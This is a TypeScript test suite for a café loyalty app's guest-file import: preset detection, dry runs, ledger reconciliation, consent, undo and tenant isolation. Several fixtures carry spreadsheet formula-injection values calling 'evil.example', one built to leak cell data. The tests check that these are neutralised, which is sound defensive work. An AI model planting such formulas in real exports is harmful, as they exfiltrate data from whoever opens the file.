import { eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { withTenant } from "@/db/client";
import { auditLog, guestConsents, guestImportBatches, guests, ledgerEntries, users } from "@/db/schema";
import { testDatabase } from "@/db/testing/database";
import { AppError } from "../../errors";
import { lockGuest, postPoints } from "../../loyalty/ledger";
import { createTenant } from "../../tenants/create";
import { exportGuestsCsv } from "../export";
import {
  applyBatch,
  batchView,
  createBatch,
  getBatch,
  listMappings,
  prepareApply,
  prepareCheck,
  readIntoBatch,
  undoBatch,
} from "./batches";
import { deleteMapping } from "./mappings";
import type { Report } from "./plan";
import { guessPreset, PRESET_IDS, type PresetId } from "./presets";
import { MAX_ROW_CHARS } from "./read";
import { importGuestFile } from "./run";
import { chunks, presetCsv, presetXlsx, type SampleGuest, sampleGuest } from "./testing";

const db = await testDatabase();
const SYSTEM = { kind: "system" as const };

let cafes = 0;
async function cafe() {
  cafes += 1;
  const { tenant } = await db.app.transaction((tx) =>
    createTenant(tx, {
      slug: `import-${cafes}`,
      name: `Import ${cafes}`,
      currency: "RUB",
      timezone: "Europe/Moscow",
      locale: "ru",
      locations: [{ slug: "main", name: "Main", address: "1 Main Street" }],
    }),
  );
  return tenant.id;
}

type Options = { apply?: boolean; balanceMode?: "add" | "set"; preset?: PresetId; name?: string };
function run(tenantId: string, data: string | Buffer, options: Options = {}) {
  return importGuestFile(db.app, {
    tenantId,
    fileName: options.name ?? "guests.csv",
    source: chunks(data),
    preset: options.preset,
    balanceMode: options.balanceMode ?? "add",
    tierMode: "carry",
    apply: options.apply ?? true,
    actor: SYSTEM,
  });
}

const inCafe = <T>(tenantId: string, work: Parameters<typeof withTenant<T>>[1]) => withTenant(tenantId, work, db.app);

async function guestsOf(tenantId: string) {
  return inCafe(tenantId, (tx) => tx.select().from(guests).orderBy(guests.phone));
}

/** Guests whose balance differs from the sum of their ledger (what `check-ledger` reports). */
async function ledgerMismatches(tenantId: string) {
  return db.admin.execute<{ id: string }>(sql`
    select g.id from guests g
      left join (select guest_id, sum(delta) s from ledger_entries group by 1) l on l.guest_id = g.id
     where g.tenant_id = ${tenantId} and g.balance <> coalesce(l.s, 0)`);
}

const reasonsOf = (report: Report | null) => report?.lines.map((line) => [line.row, line.reason]);

describe("files of each preset", () => {
  it.each(PRESET_IDS)("%s: the header is recognised and every guest comes over with their points", async (preset) => {
    const tenantId = await cafe();
    const sample = [sampleGuest(1), sampleGuest(2), sampleGuest(3)];
    const csv = presetCsv(preset, sample, preset === "square" || preset === "loyverse" ? "," : ";");
    const result = await run(tenantId, csv);
    expect(result.preset).toBe(preset);
    expect(result.report).toMatchObject({ rows: 3, create: 3, update: 0, skip: 0 });
    expect(result.batch).toMatchObject({ status: "applied", reconciled: true });
    const stored = await guestsOf(tenantId);
    expect(stored.map((guest) => [guest.phone, guest.balance])).toEqual(
      sample.map((guest) => [guest.phone?.replaceAll(" ", ""), Number(guest.balance)]),
    );
    // The old card number keeps working at the till, where the file had one.
    if (preset !== "loyverse" || sample[0]?.card) expect(stored[0]?.cardCode).toBe(sample[0]?.card);
    expect(await ledgerMismatches(tenantId)).toEqual([]);
  });

  it("reads an XLSX: numbers as a spreadsheet keeps them, a formula as its text", async () => {
    const tenantId = await cafe();
    const sample = [sampleGuest(11), { ...sampleGuest(12), name: '=HYPERLINK("http://evil.example","click")' }];
    const result = await run(tenantId, await presetXlsx("iiko_card", sample), { name: "guests.xlsx" });
    expect(result.batch.format).toBe("xlsx");
    expect(result.preset).toBe("iiko_card");
    expect(result.report).toMatchObject({ create: 2, skip: 0 });
    const stored = await guestsOf(tenantId);
    expect(stored.map((guest) => guest.balance)).toEqual([Number(sample[0]?.balance), Number(sample[1]?.balance)]);
    expect(stored.map((guest) => guest.name)).toContain('=HYPERLINK("http://evil.example","click")');
  });

  it("guesses the preset from the header alone", () => {
    expect(guessPreset(["Телефон", "UID", "Имя", "Баллы", "Статус"])).toBe("uds");
    expect(guessPreset(["First Name", "Last Name", "Phone Number", "Email Address"])).toBe("square");
    expect(guessPreset(["phone", "balance"])).toBe("generic");
  });
});

describe("the dry run", () => {
  it("lists what it would create, update and skip, row by row and why, and writes nothing", async () => {
    const tenantId = await cafe();
    await run(tenantId, presetCsv("generic", [sampleGuest(1)]));
    const before = await guestsOf(tenantId);
    const rows: SampleGuest[] = [
      sampleGuest(1), // row 2: the guest already here → update
      sampleGuest(2), // row 3: new
      { ...sampleGuest(3), phone: "12345" }, // row 4: bad phone
      { ...sampleGuest(4), phone: sampleGuest(2).phone }, // row 5: duplicate of row 3
      { ...sampleGuest(5), balance: "-40" }, // row 6: negative balance
      { ...sampleGuest(6), phone: "+44 7911 123456" }, // row 7: a valid British mobile
      { ...sampleGuest(7), phone: "+44 12" }, // row 8: not a valid number anywhere
      { ...sampleGuest(8), name: '=HYPERLINK("http://evil.example","x")' }, // row 9: formula kept as text
      { ...sampleGuest(9), balance: "=1+1" }, // row 10: a formula where points belong
      { ...sampleGuest(10), balance: "12,5" }, // row 11: rounded down
    ];
    const result = await run(tenantId, presetCsv("generic", rows), { apply: false });
    expect(result.batch.status).toBe("checked");
    expect(result.report).toMatchObject({ rows: 10, create: 4, update: 1, skip: 5 });
    expect(reasonsOf(result.report)).toEqual([
      [4, "bad_phone"],
      [5, "duplicate"],
      [6, "negative_balance"],
      [7, "foreign_phone"],
      [8, "bad_phone"],
      [9, "formula_as_text"],
      [10, "formula"],
      [11, "fraction_rounded"],
    ]);
    expect(result.report?.lines.find((line) => line.reason === "duplicate")?.otherRow).toBe(3);
    expect(await guestsOf(tenantId)).toEqual(before);
  });

  it("refuses a file that is not CSV or XLSX, an empty one, and one over the row limit without reading it all", async () => {
    const tenantId = await cafe();
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 1, 0]);
    const notAFile = await run(tenantId, png, { name: "guests.csv" });
    expect(notAFile.batch.status).toBe("failed");
    expect(reasonsOf(notAFile.report)).toEqual([[null, "not_csv_or_xlsx"]]);
    expect(reasonsOf((await run(tenantId, "")).report)).toEqual([[null, "empty_file"]]);
    expect(reasonsOf((await run(tenantId, "phone;balance\r\n")).report)).toEqual([[null, "empty_file"]]);

    // Two million rows, made as they are pulled: the reading stops at the limit.
    let pulled = 0;
    const huge = (async function* () {
      yield Buffer.from("phone;balance\n");
      for (let i = 0; i < 2_000_000; i += 1_000) {
        pulled += 1_000;
        yield Buffer.from(
          Array.from({ length: 1_000 }, (_, k) => `+7916${String(i + k).padStart(7, "0")};1\n`).join(""),
        );
      }
    })();
    const batch = await inCafe(tenantId, (tx) => createBatch(tx, { tenantId, fileName: "huge.csv" }));
    const read = await readIntoBatch(db.app, tenantId, batch.id, huge, { maxRows: 10_000, maxBytes: 1e9 });
    expect(read.status).toBe("failed");
    expect((read.report as Report).lines[0]).toMatchObject({ reason: "too_many_rows", value: "10000" });
    expect(pulled).toBeLessThan(100_000);
    // Nothing of it stays.
    const [left] = await db.admin.execute<{ n: number }>(
      sql`select count(*)::int as n from guest_import_rows where batch_id = ${batch.id}`,
    );
    expect(left?.n).toBe(0);
  });

  it("refuses a file without line breaks, or with a quote never closed, at the row limit without reading it all", async () => {
    const tenantId = await cafe();
    for (const [label, piece] of [
      ["no line breaks", "A".repeat(64 * 1024)],
      ["unclosed quote", `${"b".repeat(64 * 1024)}\n`],
    ] as const) {
      let pulled = 0;
      const endless = (async function* () {
        yield Buffer.from(label === "unclosed quote" ? 'name,phone\n"' : "");
        for (let i = 0; i < 200; i++) {
          pulled += 1;
          yield Buffer.from(piece);
        }
      })();
      const batch = await inCafe(tenantId, (tx) => createBatch(tx, { tenantId, fileName: "one-line.csv" }));
      const read = await readIntoBatch(db.app, tenantId, batch.id, endless);
      expect(read.status, label).toBe("failed");
      expect((read.report as Report).lines[0], label).toMatchObject({
        reason: "row_too_long",
        value: String(MAX_ROW_CHARS),
      });
      // 200 pieces of 64 KB is 12.5 MB; the reading stopped soon after 256 K characters.
      expect(pulled, label).toBeLessThan(10);
    }
  });

  it("reads a text file with a stray NUL past its start, in one chunk or two, and keeps the cell without it", async () => {
    const tenantId = await cafe();
    const start = `phone;name\n+79160000001;${"Я".repeat(5_000)}\n`;
    const stray = "+79160000002;x\u0000y\n";
    for (const parts of [[start + stray], [start, stray]]) {
      const batch = await inCafe(tenantId, (tx) => createBatch(tx, { tenantId, fileName: "stray.csv" }));
      const source = (async function* () {
        for (const part of parts) yield Buffer.from(part);
      })();
      const read = await readIntoBatch(db.app, tenantId, batch.id, source);
      expect(read.status).toBe("uploaded");
      const cells = await db.admin.execute<{ cells: string[] }>(
        sql`select cells from guest_import_rows where batch_id = ${batch.id} order by row_no`,
      );
      expect(cells.map((row) => row.cells[1])).toEqual(["Я".repeat(5_000), "xy"]);
    }
  });
});

describe("applying", () => {
  it("reconciles: in add mode the ledger holds the file's points, in set mode the balances become the file's", async () => {
    const tenantId = await cafe();
    // Three guests already here with 100 points each.
    await run(
      tenantId,
      presetCsv(
        "generic",
        [1, 2, 3].map((i) => ({ ...sampleGuest(i), balance: "100" })),
      ),
    );
    const rows = [1, 2, 3, 4].map((i) => ({ ...sampleGuest(i), balance: String(i * 10) }));

    const added = await run(tenantId, presetCsv("generic", rows), { name: "add.csv" });
    expect(added.batch).toMatchObject({ fileTotal: 100, ledgerTotal: 100, reconciled: true });
    expect((await guestsOf(tenantId)).map((guest) => guest.balance)).toEqual([110, 120, 130, 40]);

    const set = await run(
      tenantId,
      presetCsv(
        "generic",
        rows.map((row) => ({ ...row, email: "" })),
      ),
      {
        balanceMode: "set",
        name: "set.csv",
      },
    );
    // 10+20+30+40 = 100 in the file; the balances were 110+120+130+40 = 400: the ledger moves −300.
    expect(set.batch).toMatchObject({ fileTotal: 100, ledgerTotal: -300, reconciled: true });
    expect((await guestsOf(tenantId)).map((guest) => guest.balance)).toEqual([10, 20, 30, 40]);
    expect(await ledgerMismatches(tenantId)).toEqual([]);
    const kinds = await inCafe(tenantId, (tx) => tx.selectDistinct({ kind: ledgerEntries.kind }).from(ledgerEntries));
    expect(kinds).toEqual([{ kind: "import" }]);
  });

  it("records the consent the café had, from the file and date, and marketing only where the file says so", async () => {
    const tenantId = await cafe();
    const result = await run(tenantId, presetCsv("generic", [sampleGuest(3), sampleGuest(4)]));
    const consents = await inCafe(tenantId, (tx) =>
      tx
        .select({ kind: guestConsents.kind, channel: guestConsents.channel, batch: guestConsents.importBatchId })
        .from(guestConsents)
        .orderBy(guestConsents.kind),
    );
    // sampleGuest(3) agreed to marketing ("да"), sampleGuest(4) did not.
    expect(consents).toEqual([
      { kind: "personal_data", channel: "import", batch: result.batch.id },
      { kind: "personal_data", channel: "import", batch: result.batch.id },
      { kind: "marketing", channel: "import", batch: result.batch.id },
    ]);
    expect((await guestsOf(tenantId)).map((guest) => guest.marketingOptIn).sort()).toEqual([false, true]);
  });

  it("keeps a formula as text, and the guest export neutralises it for spreadsheets", async () => {
    const tenantId = await cafe();
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Гость")';
    await run(tenantId, presetCsv("generic", [{ ...sampleGuest(5), name: formula }]));
    expect((await guestsOf(tenantId))[0]?.name).toBe(formula);
    const [owner] = await db.admin
      .insert(users)
      .values({ email: `owner-${tenantId}@import.test` })
      .returning();
    const csv = await inCafe(tenantId, (tx) =>
      exportGuestsCsv(tx, { tenantId, actorUserId: owner?.id ?? "", ip: null, withContacts: true }),
    );
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Гость"")"`);
    expect(csv).not.toMatch(/(^|,)"=/m);
  });

  it("applies one file once when two imports of it run at the same time", async () => {
    const tenantId = await cafe();
    const csv = presetCsv(
      "generic",
      [1, 2, 3, 4, 5].map((i) => sampleGuest(i)),
    );
    // Two uploads of the same file, both checked, then both applied at once — twice each.
    const first = await run(tenantId, csv, { apply: false });
    const second = await run(tenantId, csv, { apply: false });
    const ids = [first.batch.id, second.batch.id, first.batch.id, second.batch.id];
    const outcomes = await Promise.allSettled(ids.map((id) => applyBatch(db.app, tenantId, id, SYSTEM)));
    const refusals = outcomes.map((outcome) =>
      outcome.status === "fulfilled" ? "applied" : ((outcome.reason as AppError).reason ?? String(outcome.reason)),
    );
    expect(refusals.filter((outcome) => outcome === "applied")).toHaveLength(1);
    for (const refusal of refusals.filter((outcome) => outcome !== "applied")) {
      expect(refusal).toMatch(/^(import_applied|already_imported)$/);
    }
    const stored = await guestsOf(tenantId);
    expect(stored).toHaveLength(5);
    expect(stored.map((guest) => guest.balance)).toEqual([1, 2, 3, 4, 5].map((i) => Number(sampleGuest(i).balance)));
    expect(await ledgerMismatches(tenantId)).toEqual([]);
  });

  it("is tenant-bound: another café cannot see or apply the batch", async () => {
    const tenantId = await cafe();
    const other = await cafe();
    const checked = await run(tenantId, presetCsv("generic", [sampleGuest(1)]), { apply: false });
    await expect(inCafe(other, (tx) => getBatch(tx, checked.batch.id))).rejects.toMatchObject({
      reason: "import_not_found",
    });
    await expect(inCafe(other, (tx) => prepareApply(tx, checked.batch.id))).rejects.toMatchObject({
      reason: "import_not_found",
    });
  });
});

describe("undo", () => {
  it("takes the whole import back in one action: balances as before, new guests gone, the ledger kept", async () => {
    const tenantId = await cafe();
    await run(tenantId, presetCsv("generic", [{ ...sampleGuest(1), balance: "70" }]), { name: "first.csv" });
    const result = await run(
      tenantId,
      presetCsv(
        "generic",
        [1, 2, 3].map((i) => ({ ...sampleGuest(i), balance: "5" })),
      ),
    );
    expect((await guestsOf(tenantId)).filter((guest) => !guest.deletedAt).map((guest) => guest.balance)).toEqual([
      75, 5, 5,
    ]);

    const undone = await inCafe(tenantId, (tx) => undoBatch(tx, tenantId, result.batch.id, SYSTEM));
    expect(undone).toMatchObject({ guests: 3, points: 15, removed: 2 });
    const after = await guestsOf(tenantId);
    expect(after.filter((guest) => !guest.deletedAt).map((guest) => [guest.phone, guest.balance])).toEqual([
      [sampleGuest(1).phone?.replaceAll(" ", ""), 70],
    ]);
    expect(after.filter((guest) => guest.deletedAt).every((guest) => guest.phone === null && guest.balance === 0)).toBe(
      true,
    );
    expect(await ledgerMismatches(tenantId)).toEqual([]);
    const [batch] = await db.admin.select().from(guestImportBatches).where(eq(guestImportBatches.id, result.batch.id));
    expect(batch?.status).toBe("undone");
    await expect(inCafe(tenantId, (tx) => undoBatch(tx, tenantId, result.batch.id, SYSTEM))).rejects.toMatchObject({
      reason: "import_not_applied",
    });
    // Undone, the same file may come again.
    const again = await run(
      tenantId,
      presetCsv(
        "generic",
        [1, 2, 3].map((i) => ({ ...sampleGuest(i), balance: "5" })),
      ),
    );
    expect(again.batch.status).toBe("applied");
  });

  it("is refused once a guest has spent imported points, and changes nothing", async () => {
    const tenantId = await cafe();
    const result = await run(
      tenantId,
      presetCsv(
        "generic",
        [1, 2].map((i) => ({ ...sampleGuest(i), balance: "50" })),
      ),
    );
    const [spender] = await guestsOf(tenantId);
    await inCafe(tenantId, async (tx) => {
      const guest = await lockGuest(tx, spender?.id ?? "");
      if (!guest) throw new Error("no guest");
      await postPoints(tx, guest, [{ kind: "expiry", delta: -20, note: "spent" }]);
    });
    const before = await guestsOf(tenantId);
    await expect(inCafe(tenantId, (tx) => undoBatch(tx, tenantId, result.batch.id, SYSTEM))).rejects.toMatchObject({
      reason: "points_spent",
    });
    expect(await guestsOf(tenantId)).toEqual(before);
  });
});

describe("failures leave nothing half-applied", () => {
  it("the apply plans again: a guest who arrived after the dry run is updated, not enrolled twice", async () => {
    const tenantId = await cafe();
    const checked = await run(
      tenantId,
      presetCsv(
        "generic",
        [1, 2, 3].map((i) => sampleGuest(i)),
      ),
      { apply: false },
    );
    // A guest appears with row 3's phone after the dry run (the apply plans again, so it updates it).
    await run(tenantId, presetCsv("generic", [{ ...sampleGuest(3), balance: "1" }]), { name: "other.csv" });
    await inCafe(tenantId, (tx) => prepareApply(tx, checked.batch.id));
    const applied = await applyBatch(db.app, tenantId, checked.batch.id, SYSTEM);
    expect(applied.report).toMatchObject({ create: 2, update: 1 });
    expect(await ledgerMismatches(tenantId)).toEqual([]);
  });

  it("one existing guest reached by two rows through different identifiers is updated once; the second row is a duplicate", async () => {
    const tenantId = await cafe();
    await run(tenantId, presetCsv("generic", [sampleGuest(7)]));
    const [guest] = await guestsOf(tenantId);
    // Row 1 names the guest by phone; row 2 by the card alone (another phone-less identity of the same guest).
    const byPhone = { ...sampleGuest(7), card: "", email: "", balance: "100" };
    const byCard = { ...sampleGuest(7), phone: "", email: "", balance: "50" };
    const result = await run(tenantId, presetCsv("generic", [byPhone, byCard]), { name: "twice.csv" });
    expect(result.report).toMatchObject({ update: 1, skip: 1 });
    expect(reasonsOf(result.report)).toContainEqual([3, "duplicate"]);
    const [after] = await guestsOf(tenantId);
    expect(after?.balance).toBe((guest?.balance ?? 0) + 100);
    expect(await ledgerMismatches(tenantId)).toEqual([]);
  });

  it("an apply that throws midway writes no guest, no ledger entry and no consent", async () => {
    const tenantId = await cafe();
    const checked = await run(
      tenantId,
      presetCsv(
        "generic",
        [1, 2].map((i) => sampleGuest(i)),
      ),
      { apply: false },
    );
    // A check the second guest fails makes the write fail after the plan and the first rows.
    await db.admin.execute(sql`alter table guests add constraint import_test_fail check (name <> 'Гость 2') not valid`);
    try {
      await expect(applyBatch(db.app, tenantId, checked.batch.id, SYSTEM)).rejects.toThrow();
    } finally {
      await db.admin.execute(sql`alter table guests drop constraint import_test_fail`);
    }
    expect(await guestsOf(tenantId)).toEqual([]);
    const [counts] = await db.admin.execute<{ ledger: number; consents: number }>(sql`
      select (select count(*)::int from ledger_entries where tenant_id = ${tenantId}) as ledger,
             (select count(*)::int from guest_consents where tenant_id = ${tenantId}) as consents`);
    expect(counts).toEqual({ ledger: 0, consents: 0 });
    expect((await inCafe(tenantId, (tx) => getBatch(tx, checked.batch.id))).status).toBe("checked");
  });
});

describe("saved mappings", () => {
  const STAFF = { kind: "staff" as const, userId: null, ip: "203.0.113.9" };
  async function savedMapping(tenantId: string, name: string) {
    const checked = await run(tenantId, presetCsv("generic", [sampleGuest(1)]), { apply: false });
    const batchId = checked.batch.id;
    await inCafe(tenantId, async (tx) => {
      const batch = await getBatch(tx, batchId);
      await prepareCheck(tx, tenantId, {
        batchId,
        preset: "generic",
        mapping: batch.mapping ?? {},
        balanceMode: "set",
        tierMode: "carry",
        saveAs: name,
      });
    });
    const [mapping] = await inCafe(tenantId, (tx) => listMappings(tx));
    if (!mapping) throw new Error("not saved");
    return { batchId, mapping };
  }
  const reasonOf = async (promise: Promise<unknown>) =>
    promise.then(
      () => "done",
      (error: unknown) => (error instanceof AppError ? error.reason : String(error)),
    );

  it("a saved mapping can be deleted: no longer offered, audited, and the import that used it keeps its copy", async () => {
    const tenantId = await cafe();
    const { batchId, mapping } = await savedMapping(tenantId, "Старая система");
    const offered = await inCafe(tenantId, (tx) => batchView(tx, batchId));
    expect(offered.saved.map((saved) => saved.name)).toEqual(["Старая система"]);

    const deleted = await inCafe(tenantId, (tx) => deleteMapping(tx, tenantId, mapping.id, STAFF));
    expect(deleted.name).toBe("Старая система");
    const after = await inCafe(tenantId, (tx) => batchView(tx, batchId));
    expect(after.saved).toEqual([]);
    expect(after.mapping).toEqual(offered.mapping);
    const entries = await inCafe(tenantId, (tx) =>
      tx.select().from(auditLog).where(eq(auditLog.action, "guests.import_mapping_deleted")),
    );
    expect(entries.map((entry) => [entry.targetId, entry.ip, (entry.meta as { name: string }).name])).toEqual([
      [mapping.id, "203.0.113.9", "Старая система"],
    ]);
    // Twice: the second finds nothing (and writes no second audit entry).
    expect(await reasonOf(inCafe(tenantId, (tx) => deleteMapping(tx, tenantId, mapping.id, STAFF)))).toBe(
      "mapping_not_found",
    );
  });

  it("another café's saved mapping is not found, and stays", async () => {
    const ours = await cafe();
    const theirs = await cafe();
    const { mapping } = await savedMapping(theirs, "Их выгрузка");
    expect(await reasonOf(inCafe(ours, (tx) => deleteMapping(tx, ours, mapping.id, STAFF)))).toBe("mapping_not_found");
    expect((await inCafe(theirs, (tx) => listMappings(tx))).map((saved) => saved.name)).toEqual(["Их выгрузка"]);
  });
});
